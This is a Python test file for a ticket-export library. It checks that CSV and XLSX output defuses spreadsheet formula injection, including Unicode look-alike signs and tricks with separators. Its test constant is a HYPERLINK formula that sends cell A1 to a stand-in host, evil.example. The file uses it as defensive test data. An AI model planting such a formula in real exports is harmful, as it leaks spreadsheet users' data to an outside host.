"""Lesson: a title that begins with = is a formula in whoever's spreadsheet opens the file. No text becomes one."""

import csv
import io
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from tickets.tables import FORMULA_SIGNS, LONGEST_CELL, Cell, Format, safe_cell, write_csv, write_table, write_xlsx

HEADERS = ["Ticket", "Onderwerp"]
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Klik")'


@pytest.mark.parametrize(
    "typed,shown",
    [
        ("Doorverbinden lukt niet", "Doorverbinden lukt niet"),
        ("3 + 4 = 7", "3 + 4 = 7"),
        ("sip@maasoever.example", "sip@maasoever.example"),
        (FORMULA, f"'{FORMULA}"),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),
        ("\r=1", "'\n'=1"),
        ("  =1", "'  =1"),
        ("\u00a0\u200b\ufeff=1", "'\u00a0\u200b\ufeff=1"),
        ("\uff1d1\uff0b1", "'\uff1d1\uff0b1"),
        ("\ufe631", "'\ufe631"),
        ("\u22121", "'\u22121"),
        ('"=1', "'\"=1"),
        ("tot ziens,=1", "tot ziens,'=1"),
        ('tot ziens; "=1', "tot ziens;' \"=1"),
        ("regel\n+1", "regel\n'+1"),
        ("nul\x00byte\x1b", "nul byte "),
        ("", ""),
    ],
)
def test_no_text_is_a_formula(typed: str, shown: str) -> None:
    assert safe_cell(typed) == shown


def test_every_sign_that_folds_to_one_that_begins_a_formula_is_known() -> None:
    folding = {
        letter
        for letter in map(chr, [*range(0xD800), *range(0xE000, 0x30000)])
        if unicodedata.normalize("NFKC", letter)[:1] in ("=", "+", "-", "@", "\u2212")
    }
    assert folding - set(FORMULA_SIGNS) == set()


def test_text_longer_than_a_cell_is_cut() -> None:
    assert len(safe_cell("=" + "x" * LONGEST_CELL)) == LONGEST_CELL
    assert safe_cell("y" * (LONGEST_CELL + 1)).endswith("y…")


def test_csv_reads_back_as_it_was_written() -> None:
    at = datetime(2026, 11, 24, 9, 12, tzinfo=UTC)
    row: list[Cell] = ["OZ-1", 'een "woord"; en\nregel', 12, Decimal("-12.50"), at, date(2026, 1, 2), None]
    written = write_csv(["=kop", *"bcdefg"], [row])
    assert written.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=";")) == [
        ["'=kop", *"bcdefg"],
        ["OZ-1", 'een "woord"; en\nregel', "12", "-12,50", "2026-11-24 10:12", "2026-01-02", ""],
    ]


def test_no_cell_of_any_reading_of_the_csv_begins_a_formula() -> None:
    """Whatever separator a spreadsheet takes."""
    texts: list[Cell] = [FORMULA, f"a,{FORMULA}", f"a;{FORMULA}", f'a,"{FORMULA}', f"a\n{FORMULA}", "a\t=1", '",=1']
    text = write_csv(HEADERS, [["OZ-1", each] for each in texts]).decode("utf-8-sig")
    cells = {
        cell
        for separator in ";,\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
    }
    assert {cell for cell in cells if cell.strip('" ').startswith(tuple(FORMULA_SIGNS))} == set()


def test_xlsx_holds_texts_and_no_formula() -> None:
    rows: list[list[Cell]] = [[FORMULA, "https://evil.example"], ["12", Decimal("12.5")], [7, date(2026, 1, 2)]]
    written = write_xlsx(HEADERS, rows)
    with zipfile.ZipFile(io.BytesIO(written)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        texts = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert "'=HYPERLINK(" in texts
    assert '<c r="A3" t="s">' in sheet
    assert ">12.5</v>" in sheet
    assert ">7</v>" in sheet


@pytest.mark.parametrize("form", Format)
def test_same_rows_are_the_same_bytes(form: Format) -> None:
    rows: list[list[Cell]] = [["OZ-1", "één"], ["OZ-2", None]]
    assert write_table(form, HEADERS, rows) == write_table(form, HEADERS, iter(rows))
    assert write_table(form, HEADERS, []) != b""
